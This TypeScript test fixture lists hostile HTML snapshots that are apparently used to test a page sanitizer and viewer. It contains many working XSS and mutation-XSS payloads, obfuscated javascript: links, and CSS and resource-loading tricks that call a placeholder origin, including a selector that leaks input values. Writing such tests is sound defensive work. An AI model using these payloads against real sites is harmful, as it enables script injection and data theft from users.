/**
 * Snapshots that a hostile visitor could send. Each tries to run a script (`parent.hit = 1` and a dialog), to ask
 * `{origin}` for something, or to take the staff's browser somewhere. Used by the cleaning's unit tests and, drawn for
 * real, by the viewer's browser tests.
 */
const js = `parent.hit=1;fetch('{origin}/js');alert(1)`;
const tag = (name: string, html: string) => ({ name, html });
const inBody = (name: string, html: string) =>
  tag(name, `<!doctype html><html><head></head><body>${html}</body></html>`);
const inHead = (name: string, html: string) =>
  tag(name, `<!doctype html><html><head>${html}</head><body>x</body></html>`);
const inCss = (name: string, css: string) => inHead(name, `<style>${css}</style>`);

export const hostileSnapshots: readonly { readonly name: string; readonly html: string }[] = [
  inBody('a script', `<script>${js}</script>`),
  inBody('a script from elsewhere', `<script src="{origin}/x.js"></script>`),
  inBody('a module', `<script type="module" src="{origin}/x.mjs"></script>`),
  inBody('a script without an end', `<script>${js}`),
  inBody('a script in odd case', `<ScRiPt/x>${js}</sCrIpT >`),
  inBody('a script in SVG', `<svg><script href="{origin}/x.js">${js}</script></svg>`),
  inBody(
    'noscript that ends inside a style',
    `<noscript><style></noscript><img src=x onerror="${js}"></style></noscript>`,
  ),
  inBody('noscript that ends inside an attribute', `<noscript><p title="</noscript><img src=x onerror=${js}>">`),
  inBody('onerror of an image', `<img src="{origin}/none.png" onerror="${js}">`),
  inBody('onerror without quotes or spaces', `<img/src=x/onerror=parent.hit=1>`),
  inBody('an event handler twice', `<img src=x onerror="1" onerror="${js}" ONERROR="${js}">`),
  tag('onload of the body', `<html><body onload="${js}" onpageshow="${js}">x`),
  inBody('onload of SVG', `<svg onload="${js}"><g onbegin="${js}"></g></svg>`),
  inBody('ontoggle of details', `<details open ontoggle="${js}">x</details>`),
  inBody('onfocus with autofocus', `<input autofocus onfocus="${js}"><textarea autofocus onfocus="${js}"></textarea>`),
  inBody(
    'onanimationstart',
    `<style>@keyframes k{to{color:red}}p{animation:k .1s}</style><p onanimationstart="${js}">x`,
  ),
  inBody('onerror of a video source', `<video><source src="{origin}/v.mp4" onerror="${js}"></video>`),
  inBody('a javascript link', `<a id="click" href="javascript:${js}">x</a>`),
  inBody('a javascript link in entities', `<a id="click" href="&#106;&#x61;vascript&colon;${js}">x</a>`),
  inBody('a javascript link with tabs and line breaks', `<a id="click" href=" \t java\nscr\tipt:${js}">x</a>`),
  inBody('a javascript link in odd case', `<a id="click" href="JaVaScRiPt:${js}">x</a>`),
  inBody('a data link with a page', `<a id="click" target="_top" href="data:text/html,<script>${js}</script>">x</a>`),
  inBody('a vbscript link', `<a id="click" href="vbscript:msgbox(1)">x</a>`),
  inBody(
    'a link that leaves, with ping',
    `<a id="click" href="{origin}/away" ping="{origin}/ping" target="_top">x</a>`,
  ),
  inBody(
    'an SVG link',
    `<svg width="50" height="50"><a id="click" xlink:href="javascript:${js}"><rect width="50" height="50"/></a></svg>`,
  ),
  inBody(
    'an area link',
    `<map name="m"><area id="click" href="{origin}/area" shape="default"></map><img usemap="#m" src="{origin}/i">`,
  ),
  inHead('meta refresh', `<meta http-equiv="refresh" content="0;url={origin}/refresh">`),
  inHead('meta refresh to a script', `<meta http-equiv="refresh" content="0;url=javascript:${js}">`),
  inHead(
    'a policy of its own',
    `<meta http-equiv="content-security-policy" content="default-src *"><img src="{origin}/p.png">`,
  ),
  inHead('a base', `<base href="{origin}/"><img src="rel.png"><style>p{background:url(rel2.png)}</style>`),
  inHead('a style sheet', `<link rel="stylesheet" href="{origin}/x.css">`),
  inHead(
    'prefetch, preload and friends',
    `<link rel="prefetch" href="{origin}/1"><link rel="preload" as="image" href="{origin}/2"><link rel="modulepreload" href="{origin}/3"><link rel="prerender" href="{origin}/4">`,
  ),
  inHead(
    'dns-prefetch and preconnect',
    `<link rel="dns-prefetch" href="{origin}"><link rel="preconnect" href="{origin}"><meta http-equiv="x-dns-prefetch-control" content="on">`,
  ),
  inHead(
    'an icon and a manifest',
    `<link rel="icon" href="{origin}/i"><link rel="manifest" href="{origin}/m"><link rel="apple-touch-icon" href="{origin}/a">`,
  ),
  inCss('an import', `@import url("{origin}/a.css"); @import '{origin}/b.css' screen; p{color:red}`),
  inCss('an import in escapes', String.raw`@\69mport "{origin}/a.css"; @im\70 ort url({origin}/b.css); p{}`),
  inCss(
    'an import that appears when another goes',
    `@@import "x"; import "{origin}/a.css"; @im/**/port "{origin}/b.css";`,
  ),
  inCss(
    'pictures of CSS',
    `body{background:url({origin}/1);list-style:url('{origin}/2');cursor:url("{origin}/3"),auto}body::before{content:url({origin}/4)}`,
  ),
  inCss(
    'pictures in escapes',
    String.raw`body{background:u\72l("{origin}/1")}body::after{content:\75\72\6c({origin}/2)}`,
  ),
  inCss(
    'sets of pictures',
    `body{background:image-set("{origin}/1" 1x, url({origin}/2) 2x);--x:"{origin}/3"}body::before{content:-webkit-image-set(var(--x) 1x)}`,
  ),
  inCss('a font', `@font-face{font-family:f;src:url({origin}/f.woff2) format("woff2")}body{font-family:f}`),
  inCss('a string cut by a line break', `body{content:"\n;background:url({origin}/1)}`),
  inCss('an address without an end', `body{background:url("{origin}/1\\`),
  inCss('a selector that reads values', `input[value^="a"]{background:url({origin}/a)}`),
  inCss('an end tag in a string', `p{content:"</style><img src={origin}/1 onerror=${js}>"}`),
  inBody(
    'a style attribute',
    `<p style="background:url({origin}/1)">x</p><p style='background:url(&quot;{origin}/2&quot;)'>x</p>`,
  ),
  inBody(
    'a style attribute in entities',
    `<p style="background&#58;u&#114;l&lpar;{origin}/1&rpar;;background:u\\72l({origin}/2)">x</p>`,
  ),
  inBody(
    'SVG that points elsewhere',
    `<svg><use href="{origin}/s.svg#a"/><use xlink:href="{origin}/t.svg#a"/><image href="{origin}/i.png"/><image xlink:href="{origin}/j.png"/><feImage href="{origin}/k.png"/></svg>`,
  ),
  inBody(
    'SVG paint that points elsewhere',
    `<svg><rect width="9" height="9" fill="url({origin}/f.svg#a)" filter="url('{origin}/g.svg#a')" mask="url(&quot;{origin}/h.svg#a&quot;)"/></svg>`,
  ),
  inBody(
    'SVG that animates an address',
    `<svg><a id="click"><animate attributeName="href" values="javascript:${js}" begin="0s" fill="freeze"/><set attributeName="xlink:href" to="{origin}/1"/><text y="20">x</text></a></svg>`,
  ),
  inBody(
    'a page inside SVG',
    `<svg><foreignObject width="99" height="99"><iframe src="{origin}/f"></iframe><img src=x onerror="${js}"></foreignObject></svg>`,
  ),
  inBody(
    'a style sheet in SVG in entities',
    `<svg><style>@&#105;mport "{origin}/a.css"; &lt;/style> p{background:url(&#34;{origin}/1&#34;)}</style></svg>`,
  ),
  inBody(
    'MathML that turns around',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  ),
  inBody(
    'MathML with a link',
    `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${js}" href="{origin}/m">x</maction></math>`,
  ),
  inBody(
    'annotation-xml',
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${js}"></style></annotation-xml></math>`,
  ),
  inBody('a select that hides a style', `<select><style></select><img src=x onerror="${js}"></style></select>`),
  inBody(
    'raw texts',
    `<xmp><img src=x onerror="${js}"></xmp><noembed><img src=x onerror="${js}"></noembed><noframes><img src=x onerror="${js}"></noframes>`,
  ),
  inBody(
    'a title and a text area that end early',
    `<textarea><title></textarea><img src=x onerror="${js}"></title><svg><title><img src=x onerror="${js}"></title></svg>`,
  ),
  inBody('plaintext', `<plaintext><img src=x onerror="${js}">`),
  inBody(
    'a form',
    `<form action="{origin}/post" method="post" target="_top"><input name="attributes"><button id="click" formaction="javascript:${js}">x</button><input type="image" src="{origin}/i.png"></form>`,
  ),
  inBody(
    'frames',
    `<iframe src="{origin}/1"></iframe><iframe srcdoc="<script>${js}</script><img src={origin}/2>"></iframe><embed src="{origin}/3"><object data="{origin}/4"><param name="movie" value="{origin}/5"></object>`,
  ),
  tag('a frameset', `<frameset onload="${js}"><frame src="{origin}/1"><frame src="javascript:${js}"></frameset>`),
  inBody(
    'portals and fenced frames',
    `<portal src="{origin}/1"></portal><fencedframe src="{origin}/2"></fencedframe><applet code="{origin}/3"></applet>`,
  ),
  inBody(
    'pictures',
    `<img src="{origin}/1" srcset="{origin}/2 2x"><picture><source srcset="{origin}/3"><img srcset="{origin}/4" src="//{origin}/5" lowsrc="{origin}/6"></picture><input type="image" src="{origin}/7">`,
  ),
  tag(
    'backgrounds',
    `<html manifest="{origin}/m"><body background="{origin}/1"><table background="{origin}/2"><tr><td background="{origin}/3">x</table>`,
  ),
  inBody(
    'film and sound',
    `<video src="{origin}/1" poster="{origin}/2" autoplay></video><audio src="{origin}/3" autoplay></audio><video><source src="{origin}/4"><track default src="{origin}/5"></video><bgsound src="{origin}/6">`,
  ),
  inBody(
    'attribution',
    `<img attributionsrc="{origin}/1" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><a id="click" href="#x" attributionsrc="{origin}/2">x</a>`,
  ),
  inBody(
    'two sources for one picture',
    `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" src="{origin}/1"><img src=x src="{origin}/2">`,
  ),
  inBody(
    'nested templates',
    `<template><template><img src="{origin}/1" onerror="${js}"></template><script>${js}</script></template>`,
  ),
  inBody(
    'a declarative shadow root',
    `<div><template shadowrootmode="open"><style>@import "{origin}/1";:host{background:url({origin}/2)}</style><img src="{origin}/3" onerror="${js}"><script>${js}</script><slot></slot></template></div>`,
  ),
  inBody(
    'a closed shadow root in a shadow root',
    `<div><template shadowrootmode="open"><p><template shadowrootmode="closed"><img src="{origin}/1" onerror="${js}"><link rel="stylesheet" href="{origin}/2"></template></p></template></div>`,
  ),
  inBody(
    'comments that end early',
    `<!--><img src={origin}/1 onerror="${js}">--><!-- --!><img src={origin}/2 onerror="${js}"><!--[if IE]><script>${js}</script><![endif]-->`,
  ),
  inBody(
    'bogus comments and instructions',
    `<!x <img src={origin}/1 onerror=${js}>><?php <img src={origin}/2 onerror=${js}> ?></ x><img src={origin}/3 onerror="${js}">`,
  ),
  inBody(
    'CDATA',
    `<svg><![CDATA[</svg><img src={origin}/1 onerror="${js}">]]></svg><![CDATA[<img src={origin}/2 onerror="${js}">]]>`,
  ),
  inBody(
    'broken tags',
    `<img src="{origin}/1" """><script>${js}</script>"> <div onclick=1 <img src={origin}/2 onerror="${js}"> <<img src={origin}/3 onerror="${js}">`,
  ),
  inBody(
    'characters that are not there',
    `<img src="{origin}/1" \0onerror="${js}"><scr\0ipt>${js}</scr\0ipt><a id="click" href="java\0script:${js}">x</a>`,
  ),
  inBody(
    'nodes called like properties of the document',
    `<img name="body" src="x"><form name="querySelectorAll"></form><img name="fonts" id="head" src="x"><form name="documentElement"><input name="getAttribute"></form>`,
  ),
  inBody(
    'fields called like methods',
    `<form bb-scrollpos="1" bb-shadow-parent="1" bb-width="9"><input name="getAttribute"><input name="children"><input name="shadowRoot"><input name="style"><input name="scrollTo"><p bb-shadow-child="1">x</p></form><img name="x" id="querySelectorAll"><img name="y" id="fonts"><img name="z" id="createElement">`,
  ),
  inBody(
    'shadow marks where none can be',
    `<font-face bb-shadow-parent="1"><b bb-shadow-child="1">x</b></font-face><div bb-shadow-parent="2"><template shadowrootmode="closed"></template><b bb-shadow-child="2">x</b></div><annotation-xml bb-shadow-parent="3"><b bb-shadow-child="3">x</b></annotation-xml>`,
  ),
  inBody(
    'our own attributes',
    `<canvas bb-canvas-data="{origin}/1" width="9" height="9"></canvas><canvas bb-canvas-data='data:image/png;base64,AA") url({origin}/2'></canvas><p bb-web-animations='{"backgroundImage":"url({origin}/3)","opacity":"1"}' bb-scrollpos bb-scrolltop="x" bb-width="1e9" bb-height="{origin}">x</p><input type="file" bb-data-value="x">`,
  ),
  inBody(
    'a frame with a page of its own',
    `<iframe srcdoc="<script>${js}</script><img src='{origin}/f' onerror='${js}'>"></iframe>`,
  ),
  inBody(
    'frames within frames',
    `<iframe srcdoc="<iframe srcdoc='&lt;meta http-equiv=refresh content=&quot;0;{origin}/m&quot;&gt;&lt;body onload=alert(1)&gt;'></iframe>"></iframe>`,
  ),
  inBody(
    'a frame that names our numbers, flags and address',
    `<iframe bb-frame="0" sandbox="allow-scripts allow-top-navigation" src="{origin}/s" srcdoc="<a id=click href='{origin}/a' target=_top>x</a><style>@import '{origin}/i'</style>"></iframe>`,
  ),
  inBody(
    'a dialog that is put on top',
    `<dialog bb-top="modal" onclose="${js}" oncancel="${js}"><iframe src="{origin}/d"></iframe></dialog><p bb-top="x" popover ontoggle="${js}" onbeforetoggle="${js}">x</p>`,
  ),
  inBody('unclosed everything', `<table><svg><desc><math><style><a title="</style><img src={origin}/1 onerror=${js}>`),
];
